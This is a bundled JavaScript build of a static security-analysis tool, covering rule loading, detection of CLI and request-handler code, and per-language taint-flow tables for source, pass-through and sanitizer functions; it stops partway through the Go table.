/* harmony import */ var _compile_rule_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(71990);
/* harmony import */ var _languages_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(21913);
/**
 * The static lens's rules, loaded: the YAML rules (the catalog built with the bundle, or a rules
 * folder read at run time) grouped by the languages they run on, and the file checks. Each grammar
 * is loaded on a language's first use, so a run loads only the grammars of the files it parses.
 */





let bundled;
/**
 * Loads the rules; throws on a malformed rule. The bundled rules come from the catalog built with
 * the bundle (built-catalog.ts; in the sources, the YAML of `rules/`, which the tests compile), and
 * cannot change while the process runs, so they are loaded once per process: a review reads them
 * for the head files, for the base version of every file with a finding (static-baseline.ts) and
 * for the suggestions. A `rulesDir` of the caller's is read on every call.
 */
function compileStaticRules(options = {}) {
    const isBundled = options.rulesDir === undefined &&
        (options.languages === undefined || options.languages === _languages_js__WEBPACK_IMPORTED_MODULE_4__/* .processLanguages */ .Fw) &&
        options.checks === undefined;
    if (!isBundled)
        return compileRules(options);
    // A failure is not kept: the next review tries again and reports its own error.
    bundled ??= compileRules({}).catch((error) => {
        bundled = undefined;
        throw error;
    });
    return bundled;
}
let ruleLoads = 0;
/** @public How often this process loaded a rule catalog or folder (the test of `rulesForRun`). */
function staticRuleLoads() {
    return ruleLoads;
}
async function compileRules(options) {
    ruleLoads++;
    const own = options.rulesDir !== undefined;
    const rules = own
        ? await readRuleFiles(options.rulesDir ?? '')
        : ((0,_built_catalog_js__WEBPACK_IMPORTED_MODULE_1__/* .readBuiltCatalog */ .EI)() ?? (await readRuleFiles((0,_assets_js__WEBPACK_IMPORTED_MODULE_0__/* .locateRulesDir */ .z1)())));
    const support = options.languages ?? _languages_js__WEBPACK_IMPORTED_MODULE_4__/* .processLanguages */ .Fw;
    const checks = options.checks ?? _checks_file_checks_js__WEBPACK_IMPORTED_MODULE_2__/* .FILE_CHECKS */ .d;
    const count = rules.length + checks.reduce((n, c) => n + c.rules.length, 0);
    return { count, rulesFor: rulesByLanguage(rules, support, own), support, checks };
}
/**
 * The rules a run needs. The bundled catalog (a 200 kB JSON file, ~2 ms to read) is read only when
 * the run `parses` some changed file with a grammar: a docs-only change reads none (issue 48). A
 * rules folder of the caller's is always read, so a malformed file fails every run that names it.
 */
function rulesForRun(parses, options) {
    if (parses || options.rulesDir !== undefined)
        return compileStaticRules(options);
    const checks = options.checks ?? _checks_file_checks_js__WEBPACK_IMPORTED_MODULE_2__/* .FILE_CHECKS */ .d;
    return Promise.resolve({
        count: checks.reduce((n, c) => n + c.rules.length, 0),
        rulesFor: () => [],
        support: options.languages ?? _languages_js__WEBPACK_IMPORTED_MODULE_4__/* .processLanguages */ .Fw,
        checks,
    });
}
/** Loads what the checks covering any of `paths` need before they run (see FileCheck.load). */
async function loadChecksFor(checks, paths) {
    for (const check of checks)
        if (check.load && paths.some((p) => check.covers(p)))
            await check.load();
}
/**
 * The YAML rules of a folder. The reader (a YAML parser and the rule file's zod schema, ~70 schemas)
 * is imported only here: with the bundle's built catalog, a review never reads a rule file (issue 48).
 */
async function readRuleFiles(dir) {
    const { loadRules } = await Promise.all(/* import() */[__webpack_require__.e(8815), __webpack_require__.e(6105)]).then(__webpack_require__.bind(__webpack_require__, 96105));
    return loadRules(dir);
}
/**
 * Groups rules by the file languages they run on, resolved per language on first use: only the
 * languages a run parses load a grammar, and only a runtime rules folder (`compile`) is compiled.
 */
function rulesByLanguage(rules, support, compile) {
    const byLanguage = new Map();
    for (const rule of rules)
        for (const language of (0,_languages_js__WEBPACK_IMPORTED_MODULE_4__/* .targetsOf */ .QR)(rule.language))
            byLanguage.set(language, [...(byLanguage.get(language) ?? []), rule]);
    const ready = new Map();
    return (language) => {
        const known = ready.get(language);
        if (known)
            return known;
        if (!support.check(language).ok)
            return [];
        const list = byLanguage.get(language) ?? [];
        if (compile)
            for (const rule of list)
                (0,_compile_rule_js__WEBPACK_IMPORTED_MODULE_3__/* .compileCheck */ .i)(rule, language);
        ready.set(language, list);
        return list;
    };
}


/***/ }),

/***/ 67036:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   DO: () => (/* binding */ isCliProgram),
/* harmony export */   GG: () => (/* binding */ isOperatorSource),
/* harmony export */   dE: () => (/* binding */ isMaintainerTool),
/* harmony export */   ot: () => (/* binding */ readsNetwork)
/* harmony export */ });
/* harmony import */ var _core_code_paths_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(12535);
/* harmony import */ var _languages_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(21913);
/* harmony import */ var _entry_points_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(34947);
/**
 * Whether a file is a command-line program, whose argv, flags, environment, config and own paths
 * belong to the operator who runs it, not to an attacker (issue 45 points 2 and 5: "from argv of a
 * maintainer script, low"). fresh3's oclif packer built every shell command from the developer's own
 * paths, `package.json` config, flags or env, and was graded up to critical because a command's
 * `run()` reads argv.
 *
 * Narrow on purpose: a file under `bin/` or `tools/` that reads its argv, environment or stdin, an
 * executable script (a `#!` line, what an npm `bin` entry needs to run as a command), or a file
 * importing a CLI framework; and
 * never a file that reads a request or declares a handler: a server that happens to read the
 * environment is not a CLI (entry-points.ts tells the two apart).
 */



// Folders that hold commands run from a shell (npm's `bin/`, a repository's `tools/`). `scripts/`,
// `hack/` and release scripts are maintainer scripts already (core/code-paths.ts), graded stricter.
const CLI_DIRS = new Set(['bin', 'tools']);
// An import of an argument parser or CLI framework, per language.
const FRAMEWORK = {
    javascript: jsFramework(),
    typescript: jsFramework(),
    tsx: jsFramework(),
    python: /^\s*(?:import|from)\s+(?:argparse|click|typer|docopt|fire)\b/m,
    go: /^\s*(?:import\s+)?(?:[\w.]+\s+)?"(?:flag|github\.com\/spf13\/(?:cobra|pflag)|github\.com\/urfave\/cli(?:\/v\d+)?|github\.com\/alecthomas\/kong)"\s*$/m,
    java: /^\s*import\s+(?:picocli\.|org\.apache\.commons\.cli\.|com\.beust\.jcommander\.)/m,
    rust: /^\s*use\s+(?:clap|structopt|argh)\b/m,
};
function jsFramework() {
    const names = [
        String.raw `@oclif\/(?:core|command)`,
        'commander',
        'yargs',
        'yargs-parser',
        'cac',
        'meow',
        'clipanion',
        'minimist',
    ].join('|');
    return new RegExp(String.raw `(?:\bfrom\s+|\brequire\(\s*|\bimport\(\s*)['"](?:${names})(?:\/[\w/.-]*)?['"]`);
}
// What an operator hands a program when starting it: its argv, environment and stdin.
const OPERATOR_SOURCE = {
    javascript: /^(?:process\.(?:env|argv|stdin)|Deno\.(?:args|env)|Bun\.(?:argv|env))\b/,
    typescript: /^(?:process\.(?:env|argv|stdin)|Deno\.(?:args|env)|Bun\.(?:argv|env))\b/,
    tsx: /^(?:process\.(?:env|argv|stdin)|Deno\.(?:args|env)|Bun\.(?:argv|env))\b/,
    python: /^(?:os\.environ|os\.getenv|os\.getenvb|sys\.argv|sys\.stdin|input)\b/,
    go: /^(?:os\.Getenv|os\.LookupEnv|os\.Args|os\.Stdin|flag\.\w+)\b/,
    java: /^(?:System\.(?:getenv|getProperty|in))\b/,
    rust: /^(?:(?:std::)?env::(?:var|var_os|args|args_os|vars)|(?:std::)?io::stdin)\b/,
};
// A read from the network: a value that comes back from it is not the operator's.
const NETWORK = {
    javascript: /\bfetch\(|\baxios\b|\bgot\(|\bhttps?\.(?:get|request)\(|\bXMLHttpRequest\b|\bundici\b/,
    typescript: /\bfetch\(|\baxios\b|\bgot\(|\bhttps?\.(?:get|request)\(|\bXMLHttpRequest\b|\bundici\b/,
    tsx: /\bfetch\(|\baxios\b|\bgot\(|\bhttps?\.(?:get|request)\(|\bXMLHttpRequest\b|\bundici\b/,
    python: /\b(?:requests|httpx|urllib|aiohttp|urlopen)\b/,
    go: /\bhttp\.(?:Get|Post|Head|NewRequest\w*)\(|\.Do\(req\b/,
    java: /\b(?:HttpClient|HttpURLConnection|URLConnection|RestTemplate|WebClient)\b/,
    rust: /\b(?:reqwest|hyper|ureq)::/,
};
/**
 * Whether `source`, the whole file at `path` in `language`, is a command-line program: under `bin/`
 * or `tools/` and reading argv, env or stdin, starting with a `#!` line, or importing a CLI
 * framework; and reading no request.
 */
function isCliProgram(path, source, language) {
    const dirs = path.split('/').slice(0, -1);
    // The folder alone does not make a command: `tools/` also holds helpers that other code calls with
    // its own input. A file there is one when it reads its argv, environment or stdin.
    const commandInFolder = dirs.some((d) => CLI_DIRS.has(d.toLowerCase())) && (0,_entry_points_js__WEBPACK_IMPORTED_MODULE_2__/* .readsOperatorInput */ .aR)(source, language);
    const looksCli = commandInFolder || source.startsWith('#!') || FRAMEWORK[language].test(source);
    return looksCli && !(0,_entry_points_js__WEBPACK_IMPORTED_MODULE_2__/* .servesRequests */ .Hu)(source, language);
}
/** Whether `text`, a value the flow grader read as program input, is the operator's argv, env or stdin. */
function isOperatorSource(text, language) {
    return OPERATOR_SOURCE[language].test(text.trim());
}
/** Whether `source`, a whole file, reads from the network (a value read back is not the operator's). */
function readsNetwork(source, language) {
    return NETWORK[language].test(source);
}
/**
 * Whether a file is a script its maintainers run by hand, not code that serves users: a maintainer's
 * script by path (scripts/, hack/, a release or setup script, core/code-paths.ts), or an executable
 * (`#!`) file under `tools/`, that reads no request and declares no handler (traccar's `tools/test-performance.py`, a load
 * generator). A `#!` file elsewhere may be a CLI shipped to users, and stays code.
 */
function isMaintainerTool(path, source, language) {
    // By what the file is, not its path alone: a route under `scripts/` is a server's (issue 45 point 2).
    const serves = (0,_languages_js__WEBPACK_IMPORTED_MODULE_1__/* .isCodeLanguage */ .aN)(language) && (0,_entry_points_js__WEBPACK_IMPORTED_MODULE_2__/* .declaresHandlers */ .tT)(source, language, path);
    if ((0,_core_code_paths_js__WEBPACK_IMPORTED_MODULE_0__/* .isMaintainerScript */ .yE)(path))
        return !serves;
    const inTools = path
        .split('/')
        .slice(0, -1)
        .some((d) => d.toLowerCase() === 'tools');
    return inTools && source.startsWith('#!') && !serves;
}


/***/ }),

/***/ 34947:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Hu: () => (/* binding */ servesRequests),
/* harmony export */   II: () => (/* binding */ isExportedEntry),
/* harmony export */   Ms: () => (/* binding */ handlesRequests),
/* harmony export */   aR: () => (/* binding */ readsOperatorInput),
/* harmony export */   tT: () => (/* binding */ declaresHandlers)
/* harmony export */ });
/* harmony import */ var _package_callers_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(24706);
/* harmony import */ var _python_requests_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(62140);


// Sources that the flow grader reads as program input (flow-syntax.ts `tainted`), unanchored, plus the
// shapes that declare a handler whose parameters carry the request. Each language's list is split in
// two: what the operator hands the program (argv, environment, stdin) and what a request carries, so
// a CLI (cli-program.ts) can be told from a server that also reads its environment.
// The environment is read by name (`process.env.HOME`, `process.env[key]`, `const { HOME } =
// process.env`); handing all of it to a child process (`env: process.env`, `{ ...process.env }`) reads
// no value (pm2's `lib/API/Version.js`, whose only mention of the environment is that, fresh4).
const JS_OPERATOR = [
    String.raw `\bprocess\.(argv|stdin)\b`,
    String.raw `\bprocess\.env\s*(\?\.|\.|\[)`,
    String.raw `=\s*process\.env\b`,
];
const JS_REQUEST = [
    String.raw `\b(req|request)\.(body|query|params|headers|cookies|url|path|files?)\b`,
    String.raw `\bctx\.(request|params|query|body)\b`,
    String.raw `\b(location\.(search|hash|href)|window\.name)\b`,
    // Express, Koa-router, Fastify: `app.get('/path', (req, res) => ...)`.
    String.raw `\.(get|post|put|patch|delete|all|route)\(\s*['"\`]/`,
];
const PYTHON_OPERATOR = [
    String.raw `\b(os\.environ|os\.getenv|sys\.argv|sys\.stdin)\b`,
    String.raw `\b(argparse|click\.(argument|option))\b`,
];
const PYTHON_REQUEST = [
    String.raw `\b${_python_requests_js__WEBPACK_IMPORTED_MODULE_1__/* .PYTHON_REQUEST_READ */ .Y6}\b`,
    String.raw `\bself\.request\.`,
    // Flask, FastAPI and other routers: `@app.route(...)`, `@bp.get(...)`, `@app.errorhandler(404)`;
    // a view registered by call: `app.add_url_rule("/", view_func=index)`.
    String.raw `^\s*@[\w.]*\.(route|get|post|put|patch|delete|api_route|websocket|errorhandler|app_errorhandler)\(`,
    String.raw `\.add_url_rule\(`,
    // Django REST framework's function views and viewset actions: `@api_view(["GET"])`, `@action(...)`.
    String.raw `^\s*@(api_view|action)\(`,
    // A Django view or a class-based view's method: `def show(request, slug)`, `def get(self, request)`.
    String.raw `\bdef \w+\(\s*(self,\s*)?request\b`,
    // GraphQL: graphene's resolvers and mutations take `info` after the parent (`def resolve_user(root,
    // info, id)`, `def mutate(self, info, **kwargs)`); strawberry's fields and mutations are decorated.
    String.raw `\bdef (resolve_\w+|mutate)\(\s*\w+\s*,\s*info\b`,
    String.raw `^\s*@strawberry\.(field|mutation)\b`,
    // A plain http.server, socketserver or Tornado handler class (python-requests.ts), and a WSGI app.
    _python_requests_js__WEBPACK_IMPORTED_MODULE_1__/* .PYTHON_HANDLER_CLASS */ .jS,
    String.raw `\bdef \w+\(\s*(self,\s*)?environ\s*,\s*start_response\b`,
];
const GO_OPERATOR = [
    String.raw `\bos\.(Getenv|LookupEnv|Args|Stdin)\b`,
    String.raw `\bflag\.(Arg|Args|String|Parse)\b`,
];
const GO_REQUEST = [
    String.raw `\*http\.Request\b`,
    String.raw `\*(gin\.Context|fiber\.Ctx)\b`,
    String.raw `\becho\.Context\b`,
    String.raw `\.(FormValue|PostFormValue)\(`,
];
const JAVA_OPERATOR = [
    String.raw `\bSystem\.(getenv|getProperty|in)\b`,
    String.raw `\bstatic\s+void\s+main\s*\(`,
];
const JAVA_REQUEST = [
    String.raw `\b(HttpServletRequest|ServerHttpRequest)\b`,
    String.raw `\.(getParameter|getHeader|getQueryString|getInputStream|getReader|getCookies)\(`,
    // Spring MVC and JAX-RS handlers: their parameters are bound from the request.
    String.raw `@(RequestParam|PathVariable|RequestBody|RequestHeader|CookieValue|ModelAttribute|QueryParam|PathParam|FormParam|HeaderParam)\b`,
    String.raw `@(Get|Post|Put|Delete|Patch|Request)Mapping\b`,
    String.raw `@(GET|POST|PUT|DELETE|PATCH|Path)\b`,
];
const RUST_OPERATOR = [String.raw `\benv::(var|var_os|args|args_os|vars)\b`, String.raw `\bio::stdin\b`];
const RUST_REQUEST = [
    // actix-web, axum, rocket extractors.
    String.raw `\b(web|extract)::(Query|Path|Json|Form)\b`,
    String.raw `#\[(get|post|put|delete|patch)\(`,
];
const either = (parts, flags = '') => new RegExp(parts.join('|'), flags);
const byLanguage = (js, python, go, java, rust) => ({
    javascript: either(js),
    typescript: either(js),
    tsx: either(js),
    python: either(python, 'm'),
    go: either(go),
    java: either(java),
    rust: either(rust),
});
const REQUEST = byLanguage(JS_REQUEST, PYTHON_REQUEST, GO_REQUEST, JAVA_REQUEST, RUST_REQUEST);
const OPERATOR = byLanguage(JS_OPERATOR, PYTHON_OPERATOR, GO_OPERATOR, JAVA_OPERATOR, RUST_OPERATOR);
/** Whether `source`, a whole file in `language`, reads what an operator hands it: argv, env, stdin. */
function readsOperatorInput(source, language) {
    return OPERATOR[language].test(source);
}
/** Whether `source`, a whole file in `language`, reads a request or declares a request handler. */
function servesRequests(source, language) {
    return REQUEST[language].test(source);
}
// Handlers of frameworks whose request the text test above does not name: Nitro/h3 (`defineEventHandler`,
// `readBody(event)`), Next.js route handlers and server actions, tRPC procedures, Hono's `c.req`, NestJS
// parameter decorators, Remix/web `request.formData()`, Electron IPC and socket messages.
const JS_HANDLERS = new RegExp([
    String.raw `\b(defineEventHandler|eventHandler|defineWebSocketHandler|readBody|readValidatedBody|readMultipartFormData|readFormData|getQuery|getValidatedQuery|getRouterParams?|getValidatedRouterParams|getHeaders?|getCookie|parseCookies)\(`,
    String.raw `\b(NextRequest|NextApiRequest|createTRPCRouter|\w*[pP]rocedure)\b|['"]use server['"]`,
    String.raw `\bexport\s+(async\s+)?function\s+(GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS)\b`,
    String.raw `\bc\.req\.|@(Body|Param|Query|Headers|Req|Request|Args)\(|\brequest\.(formData|json|text)\(`,
    String.raw `\bipcMain\.(on|handle)\b`,
].join('|'));
// Socket and IPC messages: a handler's input in app code, but also how any script reads a child
// process's output (`child.stdout.on('data', \u2026)`), so they do not make a script a server.
const JS_EVENTS = /\.on\(\s*['"](message|data|connection)['"]/;
// Folders whose files are a web framework's handlers by their place (file-based routing).
const HANDLER_FOLDERS = /(^|\/)(api|routes?|controllers?|handlers?|pages\/api|resolvers?|middlewares?)\/|(^|\/)route\.[cm]?[jt]sx?$/;
/**
 * Whether code handles requests: `servesRequests`, or (JavaScript and TypeScript) a handler of a
 * framework that shape does not name, or a file in a routing folder. Where a caller of an exported
 * function sits in such code, a value the rules cannot trace may be the request's (settled-callers.ts).
 */
function handlesRequests(source, language, path = '') {
    return declaresHandlers(source, language, path) || (isJs(language) && JS_EVENTS.test(source));
}
/**
 * Whether `source` reads a request or declares a web framework's handler (`handlesRequests` without
 * socket and IPC events, which scripts use to read a child process): what makes a file under
 * `scripts/`, a release script or a build file a server's code (issue 45 point 2).
 */
function declaresHandlers(source, language, path = '') {
    if (servesRequests(source, language))
        return true;
    return isJs(language) && (JS_HANDLERS.test(source) || HANDLER_FOLDERS.test(path));
}
const isJs = (language) => ['javascript', 'typescript', 'tsx'].includes(language);
// Declarations that name a function, a method or a class, whose names say what others may call.
const NAMED = new Set([
    'function_declaration',
    'generator_function_declaration',
    'method_declaration',
    'method_definition',
    'class_declaration',
    'function_definition',
    'class_definition',
    'function_item',
    // `const AllocationsDAO = function (db) { ... }`: a JS function named by its variable.
    'variable_declarator',
]);
/**
 * Whether `fn`, a function holding a parameter, is an exported entry others call (issue 45 point 1
 * counts "a function argument of an exported entry" as program input): JS/TS under an `export` or
 * named in `module.exports`/`exports`, a Go name starting upper-case or named by a directive, a Python function or method
 * whose name (and its class's) has no leading underscore and that is not nested in another function,
 * a `public` Java method, a `pub` Rust function. Its callers are elsewhere, so its arguments stay input.
 */
function isExportedEntry(fn, language) {
    const chain = [fn, ...fn.ancestors()];
    const names = chain.filter((n) => NAMED.has(String(n.kind()))).map((n) => n.field('name')?.text() ?? '');
    const own = NAMED.has(String(fn.kind())) ? fn.field('name')?.text() : undefined;
    switch (language) {
        case 'javascript':
        case 'typescript':
        case 'tsx': {
            if (chain.some((n) => n.kind() === 'export_statement'))
                return true;
            const file = chain.at(-1)?.text() ?? '';
            return names.some((name) => name !== '' && exportedByName(file, name));
        }
        case 'go':
            // cgo's `//export name` makes a lower-case function C's to call too (package-callers.ts).
            return (/^[A-Z]/.test(own ?? '') || (own !== undefined && (0,_package_callers_js__WEBPACK_IMPORTED_MODULE_0__/* .namedByGoDirective */ .a)(chain.at(-1)?.text() ?? '', own)));
        case 'python': {
            const nested = fn.ancestors().some((a) => a.kind() === 'function_definition');
            return !nested && names.every((name) => !name.startsWith('_'));
        }
        case 'java':
            return /\bpublic\b/.test(fn
                .children()
                .find((c) => c.kind() === 'modifiers')
                ?.text() ?? '');
        case 'rust':
            return fn.children().some((c) => c.kind() === 'visibility_modifier');
    }
}
// `module.exports = { name }`, `module.exports.name = name`, `exports.name = ...`: CommonJS exports.
function exportedByName(file, name) {
    const escaped = name.replace(/\$/g, '\\$');
    return new RegExp(String.raw `\bexports\b[^;]*\b${escaped}\b`).test(file);
}


/***/ }),

/***/ 59331:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  du: () => (/* binding */ FLOW_SYNTAX),
  UO: () => (/* reexport */ syntax_nodes/* isWithin */.UO),
  I: () => (/* reexport */ syntax_nodes/* kindOf */.I),
  KT: () => (/* reexport */ syntax_nodes/* named */.KT),
  D4: () => (/* reexport */ syntax_nodes/* sameSpan */.D4)
});

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/url-parts.js
const CONSTRUCTORS = /^(URL|URLSearchParams)$/;
// `u.searchParams.get('q')`, or a Next.js page's own `searchParams` prop.
const SEARCH_PARAMS = /(^|\.)searchParams$/;
/** `call`, plus the URL constructors and a `searchParams` getter as calls of the names above. */
function withUrlParts(call) {
    return (node) => {
        if (node.kind() === 'new_expression') {
            const made = node.field('constructor')?.text() ?? '';
            if (!CONSTRUCTORS.test(made))
                return call(node);
            return { callee: made, method: undefined, receiver: undefined, args: argumentsOf(node) };
        }
        const parts = call(node);
        if (!parts?.receiver || !/^(get|getAll)$/.test(parts.method ?? ''))
            return parts;
        if (!SEARCH_PARAMS.test(parts.receiver.text()))
            return parts;
        return {
            callee: `searchParams.${parts.method}`,
            method: undefined,
            receiver: undefined,
            args: [parts.receiver],
        };
    };
}
function argumentsOf(node) {
    return (node.field('arguments')?.children() ?? []).filter((c) => c.isNamed());
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/flow/syntax-nodes.js
var syntax_nodes = __webpack_require__(72296);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/flow/python-requests.js
var python_requests = __webpack_require__(62140);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/flow-syntax.js



// The node helpers every flow module reads, kept beside the grammars' tables they serve.

// The operators of `numericOperators`: arithmetic, shifts and bitwise operations (on booleans Java's
// `&`, `|` and `^` give a boolean, no text either).
const ARITHMETIC = ['-', '*', '/', '%', '<<', '>>', '&', '|', '^'];
const JS_NUMERIC = new Set([...ARITHMETIC, '**', '>>>']);
const GO_NUMERIC = new Set([...ARITHMETIC, '&^']);
const JAVA_NUMERIC = new Set([...ARITHMETIC, '>>>']);
const JS = {
    functions: [
        'function_declaration',
        'function_expression',
        'function',
        'arrow_function',
        'method_definition',
        'generator_function_declaration',
    ],
    names: ['identifier', 'shorthand_property_identifier_pattern'],
    literals: ['string', 'template_string', 'number', 'true', 'false', 'null', 'undefined', 'regex'],
    interpolations: ['template_substitution'],
    // `cmd += x` is a definition too: every definition before the use flows (the strongest counts).
    definitions: {
        variable_declarator: ['name', 'value'],
        assignment_expression: ['left', 'right'],
        augmented_assignment_expression: ['left', 'right'],
    },
    loops: { for_in_statement: ['left', 'right'] },
    conditionals: { ternary_expression: ['consequence', 'alternative'] },
    binaries: ['binary_expression'],
    numericOperators: JS_NUMERIC,
    containers: ['parenthesized_expression', 'array', 'arguments', 'spread_element', 'await_expression'],
    // What a request carries in every Node server: Express and Fastify (`req.files`, `req.originalUrl`,
    // `req.get('X-\u2026')`), Hapi (`request.payload`), Koa (`ctx.query`, `ctx.params`, `ctx.headers`), the
    // fetch `Request` of Next.js route handlers and workers (`await request.json()`). `req.json()` and
    // `req.payload` are left out: a fetch response and express-jwt's decoded token go by those names.
    tainted: /^(process\.(env|argv)|(req|request|ctx\.request)\.(body|query|params|headers|cookies|url|path|files?|originalUrl)|req\.(get|header|param)(?=\()|request\.payload|request\.(json|formData|text)(?=\(\))|ctx\.(query|params|querystring|headers?)|ctx\.cookies\.get(?=\()|location\.|document\.|window\.(location|name)|(window\.)?(localStorage|sessionStorage)\.)\b/,
    local: /^(__dirname|__filename|import\.meta\.(dirname|filename|url)|process\.cwd\(\)|(os\.)?tmpdir\(\))$/,
    // Path functions also as imported by name (`import {join} from 'node:path'`); a temporary folder
    // made with `mkdtemp` lives where its prefix says, with a random suffix. `JSON.parse` gives back
    // what its text held: the app's own `package.json` read from beside it stays the app's own.
    // A request's URL or body taken apart or decoded is still what the client sent (url-parts.ts).
    passFunctions: /^((path\.(posix\.|win32\.)?)?(join|resolve|dirname|basename|normalize|relative)|((fs|fsp|fse|fsPromises|fs\.promises)\.)?mkdtemp(Sync)?|fileURLToPath|String|encodeURI|JSON\.(stringify|parse)|url\.parse|(querystring|qs)\.(parse|unescape|decode)|decodeURI(Component)?|unescape|URL|URLSearchParams|searchParams\.(get|getAll))$/,
    // `url.split('?')[0]`: the pieces of a split string are its own text.
    passMethods: /^(trim|trimStart|trimEnd|toString|toLowerCase|toUpperCase|join|concat|slice|substring|replace|replaceAll|split)$/,
    // A digest's hex output, or a version semver parsed, cannot carry a quote or a shell metacharacter.
    safeFunctions: /^(Number|parseInt|parseFloat|Math\.\w+|Date\.now|(\w+\.)*(hash|md5|sha1|sha256|sha512)|semver\.(valid|clean|inc))$/,
    safeMethods: /^(length|toFixed|getTime|valueOf|size)$/,
    fileReads: /^((fs|fsp|fse|fs\.promises|fsPromises)\.)?(readFileSync|readFile)$/,
    scalarTypes: /^:\s*(number|bigint|boolean|Function|\([^()]*\)\s*=>\s*[\w.<>[\]| ]+)$/,
    call: withUrlParts((0,syntax_nodes/* fieldCall */.Dm)(['call_expression', 'new_expression'], 'function', 'arguments', {
        member_expression: ['object', 'property'],
    })),
    member: (0,syntax_nodes/* fieldMember */.$N)({
        member_expression: ['object', 'property'],
        subscript_expression: ['object', 'index'],
    }),
    moduleHelpers: true,
};
const PYTHON = {
    functions: ['function_definition', 'lambda'],
    names: ['identifier'],
    literals: ['string', 'integer', 'float', 'true', 'false', 'none', 'concatenated_string'],
    interpolations: ['interpolation'],
    // `with open(path) as f`: `f` is the opened file (`except E as e` binds a class: untraced either way).
    definitions: {
        assignment: ['left', 'right'],
        augmented_assignment: ['left', 'right'],
        as_pattern: ['alias', '0'],
    },
    loops: { for_statement: ['left', 'right'], for_in_clause: ['left', 'right'] },
    conditionals: { conditional_expression: ['0', '2'] },
    binaries: ['binary_operator'],
    // `await request.json()` (Starlette) is what the awaited call gives.
    containers: ['parenthesized_expression', 'tuple', 'list', 'argument_list', 'expression_list', 'await'],
    tainted: new RegExp(String.raw `^(os\.environ|os\.getenv|os\.getenvb|sys\.argv|sys\.stdin|input|${python_requests/* PYTHON_REQUEST_READ */.Y6}|self\.request\.)\b`),
    handlerReads: python_requests/* readsHandlerRequest */.Xw,
    // The user's own cache, data, state and config folders (platformdirs' and appdirs' `user_cache_dir`,
    // a `get_cache_dir()` helper, `xdg_cache_home`, `Path.home()`): the program's own files, as the
    // temp dir is.
    local: /^(__file__|os\.getcwd\(\)|Path\.cwd\(\)|pathlib\.Path\.cwd\(\)|tempfile\.gettempdir\(\)|(pathlib\.)?Path\.home\(\)|([\w.]+\.)?(user_|site_|get_|xdg_)?(cache|data|state|config|runtime)_(dir|home|path)\((['"][\w.-]*['"])?\))$/,
    // `compile(src, name, mode)` hands its source on to the `exec` or `eval` that runs it.
    // A query string parsed or a value decoded keeps what it held: `parse_qs(urlparse(self.path).query)`
    // of a plain http.server handler, `base64.b64decode(request.cookies["token"])`.
    passFunctions: /^(os\.path\.\w+|str|bytes|Path|pathlib\.Path|PurePath|os\.fspath|compile|((urllib\.)?parse\.|urlparse\.)?(parse_qs|parse_qsl|urlparse|urlsplit|unquote|unquote_plus)|(base64\.)?(b64decode|urlsafe_b64decode|b32decode|b16decode))$/,
    // `params.get("id")`, `params.getlist("id")`: an item of a mapping of input is input, as `params["id"]` is.
    passMethods: /^(format|join|strip|lstrip|rstrip|lower|upper|replace|resolve|absolute|joinpath|as_posix|parent|name|stem|suffix|decode|encode|split|rsplit|get|getlist)$/,
    safeFunctions: /^(int|float|len|bool|shlex\.quote|shlex\.join|pipes\.quote|uuid\.\w+)$/,
    safeMethods: /^(count|index|real)$/,
    // Django's `Model._meta.db_table`, SQLAlchemy's `__tablename__` and `__table__.name` (wger's
    // `pg_class` count of its own table, fresh4).
    schemaNames: /(?:^|\.)(?:_meta\.db_table|__tablename__|__table__\.(?:name|fullname))$/,
    // A file opened at a path the app fixes is its own data (a model's vocabulary pickle, fresh6).
    fileReads: /^(open|io\.open|codecs\.open|gzip\.open|bz2\.open|lzma\.open)$/,
    call: (0,syntax_nodes/* fieldCall */.Dm)(['call'], 'function', 'arguments', { attribute: ['object', 'attribute'] }),
    member: (0,syntax_nodes/* fieldMember */.$N)({ attribute: ['object', 'attribute'], subscript: ['value', 'subscript'] }),
};
const GO = {
    functions: ['function_declaration', 'method_declaration', 'func_literal'],
    names: ['identifier'],
    literals: [
        'interpreted_string_literal',
        'raw_string_literal',
        'int_literal',
        'float_literal',
        'true',
        'false',
        'nil',
        'rune_literal',
    ],
    interpolations: [],
    definitions: {
        short_var_declaration: ['left', 'right'],
        assignment_statement: ['left', 'right'],
        var_spec: ['name', 'value'],
        const_spec: ['name', 'value'],
    },
    loops: { range_clause: ['left', 'right'] },
    conditionals: {},
    binaries: ['binary_expression'],
    numericOperators: GO_NUMERIC,
    // A composite literal's elements (`[]string{"a", "b"}`, `{"media_file", "id"}`); its type is left out.
    containers: [
        'parenthesized_expression',
        'argument_list',
        'expression_list',
        'literal_value',
        'literal_element',
    ],
    tainted: /^(os\.Getenv|os\.LookupEnv|os\.Args|os\.Stdin|flag\.(Arg|Args|String)|\w+\.(URL|Form|PostForm|Header|Body|FormValue|PostFormValue|Param|Query|DefaultQuery|PostFormValue|Cookie))\b/,
    local: /^(os\.Getwd\(\)|os\.TempDir\(\)|os\.Executable\(\))$/,
    passFunctions: /^(fmt\.Sprintf|fmt\.Sprint|fmt\.Sprintln|filepath\.(Join|Dir|Base|Clean|Abs)|path\.(Join|Dir|Base|Clean)|strings\.(Join|TrimSpace|Trim|ToLower|ToUpper|Replace|ReplaceAll)|string)$/,
    passMethods: /^(String)$/,
    safeFunctions: /^(strconv\.(Itoa|FormatInt|FormatUint|FormatFloat|FormatBool|Quote)|len|cap)$/,
    safeMethods: /^(Len)$/,
    scalarTypes: /^(u?int(8|16|32|64)?|uintptr|float(32|64)|bool)$/,
    printf: /^fmt\.Sprintf$/,
